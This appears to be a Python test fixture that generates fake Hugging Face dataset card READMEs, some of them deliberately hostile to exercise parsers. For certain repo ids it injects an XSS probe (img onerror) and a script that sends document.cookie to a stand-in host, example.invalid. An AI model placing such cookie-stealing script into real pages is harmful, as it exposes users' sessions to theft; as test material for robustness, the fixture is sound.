"""Render a dataset card (README.md): YAML front matter mirroring cardData, then the card's prose.

The prose starts with the record's ``description`` (the Hub cuts that from the card), then the
sections most dataset cards carry. A few cards are hostile as real ones can be: HTML with a
``<script>`` in the prose, YAML anchors and explicit tags in the front matter (which still parses to
the record's ``cardData``).
"""

from __future__ import annotations

import zlib
from typing import Any

from hfhub.fakehub.card import _yaml_scalar


def yaml_lines(value: Any, indent: str = "") -> list[str]:
    """Block-style YAML of a mapping of scalars, lists and nested mappings (cardData's shapes)."""
    lines: list[str] = []
    for key, item in value.items():
        lines += _entry(f"{indent}{key}:", item, indent)
    return lines


def _entry(head: str, item: Any, indent: str) -> list[str]:
    if isinstance(item, dict):
        return [head, *yaml_lines(item, indent + "  ")] if item else [f"{head} {{}}"]
    if isinstance(item, list):
        if not item:
            return [f"{head} []"]
        lines = [head]
        for element in item:
            if isinstance(element, dict) and element:
                inner = yaml_lines(element, indent + "  ")
                lines += [f"{indent}- {inner[0].lstrip()}", *inner[1:]]
            else:
                lines.append(f"{indent}- {_yaml_scalar(element)}")
        return lines
    return [f"{head} {_yaml_scalar(item)}"]


def hostility(repo_id: str) -> int:
    """0 for most cards; 1: HTML and a script in the prose; 2: YAML anchors and tags."""
    crc = zlib.crc32(repo_id.encode()) % 50
    return crc if crc in (1, 2) else 0


def front_matter(card: dict[str, Any], repo_id: str) -> str:
    lines = yaml_lines(card)
    if hostility(repo_id) == 2:
        # An anchor on a mapping key's value and an explicit !!str tag: YAML that parses to the same data.
        lines = [line.replace(": ", ": &anchor0 ", 1) if n == 0 and ": " in line else line
                 for n, line in enumerate(lines)]
        lines = [line.replace("pretty_name: ", "pretty_name: !!str ", 1) for line in lines]
    return "---\n" + "\n".join(lines) + "\n---\n"


def render(record: dict[str, Any]) -> str:
    card = record.get("cardData") or {}
    repo_id = record["id"]
    name = repo_id.rpartition("/")[2]
    description = (record.get("description") or "").split("… See the full description")[0].strip()
    title, _, summary = description.partition("\n")
    body = [f"# {title.strip() or name}", "", summary.strip() or f"{name} has no description yet.", ""]
    if not card.get("pretty_name") and title.strip():
        body[0] = f"# Dataset Card for {title.strip()}"
    if hostility(repo_id) == 1:
        body += ['<div align="center"><img src="x" onerror="alert(1)"></div>',
                 "<script>fetch('https://example.invalid/' + document.cookie)</script>", ""]
    body += ["## Dataset Structure", ""]
    info = card.get("dataset_info")
    for config in info if isinstance(info, list) else [info] if info else []:
        for split in config.get("splits", []):
            body.append(f"- {config.get('config_name', 'default')}/{split['name']}: {split['num_examples']} examples")
    body += ["", "## Usage", "", "```python", "from datasets import load_dataset", "",
             f'ds = load_dataset("{repo_id}")', "```", "",
             "## Licensing", "", f"Released under {_license_words(card.get('license'))}.", ""]
    if record.get("citation"):
        body += ["## Citation", "", "```bibtex", record["citation"], "```", ""]
    head = front_matter(card, repo_id) if card else ""
    return head + "\n" + "\n".join(body)


def _license_words(value: Any) -> str:
    if isinstance(value, list):
        return " and ".join(str(v) for v in value)
    return f"the {value} license" if value else "an unstated license"
